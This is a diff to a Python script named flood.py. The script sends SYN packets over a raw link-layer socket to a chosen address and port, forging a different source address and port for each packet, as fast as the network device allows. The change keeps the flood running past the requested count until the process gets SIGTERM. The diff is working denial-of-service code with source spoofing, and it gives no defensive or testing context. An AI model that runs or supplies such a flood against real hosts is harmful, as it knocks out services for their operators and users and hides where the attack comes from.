@@ -4,9 +4,12 @@
 
 flood.py DEVICE HARDWARE-ADDRESS ADDRESS PORT COUNT
 
-COUNT SYNs to ADDRESS PORT, at HARDWARE-ADDRESS, each from another address in the network of ADDRESS (a /16 of IPv4,
-a /64 of IPv6) and another port, as fast as the device takes them. Nobody answers what they bring about.
+SYNs to ADDRESS PORT, at HARDWARE-ADDRESS, each from another address in the network of ADDRESS (a /16 of IPv4, a /64
+of IPv6) and another port, as fast as the device takes them: COUNT, and more until SIGTERM. Nobody answers what they
+bring about.
 """
+import itertools
+import signal
 import socket
 import struct
 import sys
@@ -47,7 +50,11 @@ target = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, ADDRESS)
 link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 link.bind((DEVICE, 0))
 ethernet = bytes.fromhex(HARDWARE.replace(":", "")) + link.getsockname()[4] + (b"\x86\xdd" if v6 else b"\x08\x00")
-for number in range(int(COUNT)):
+terminated = []
+signal.signal(signal.SIGTERM, lambda *_: terminated.append(True))
+for number in itertools.count():
+    if terminated and number >= int(COUNT):
+        break
     while True:
         try:
             link.send(ethernet + (packet6 if v6 else packet4)(target, number))
